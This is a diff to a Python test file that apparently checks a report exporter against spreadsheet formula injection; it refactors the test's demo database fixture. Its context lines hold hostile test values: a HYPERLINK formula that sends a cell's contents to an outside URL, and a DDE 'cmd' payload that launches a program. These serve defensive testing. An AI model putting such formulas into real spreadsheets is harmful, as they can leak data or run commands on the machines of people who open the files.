@@ -13,7 +13,6 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import select
 
-from planwatch.demo.seed import seed_demo
 from planwatch.monitor.exchange import (
     ExchangeRow,
     TemplateIdentity,
@@ -28,6 +27,7 @@ from planwatch.services.plans import find_plan
 from planwatch.services.reports import report_content, write_report
 from planwatch.store import Database
 from planwatch.store.models import Indicator
+from tests.conftest import demo_database_url
 
 PAYLOAD = '=HYPERLINK("http://x"&C3,"点击查看详情")'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
@@ -43,9 +43,8 @@ def _cells(path: Path) -> Iterator[tuple[str, object, str]]:
 
 @pytest.fixture(scope="module")
 def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
-    database = Database(f"sqlite:///{tmp_path_factory.mktemp('formula') / 'demo.db'}")
-    database.upgrade()
-    seed_demo(database)
+    urls = demo_database_url("sqlite", tmp_path_factory.mktemp("formula"))
+    database = Database(next(urls))
     with database.session() as session:
         indicator = session.scalars(select(Indicator).order_by(Indicator.id)).first()
         assert indicator is not None
@@ -53,6 +52,7 @@ def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
         indicator.source_text = "+cmd|' /C calc'!A0"
     yield database
     database.dispose()
+    urls.close()
 
 
 def test_report_annex_keeps_an_injected_indicator_name_as_text(demo: Database, tmp_path: Path) -> None:
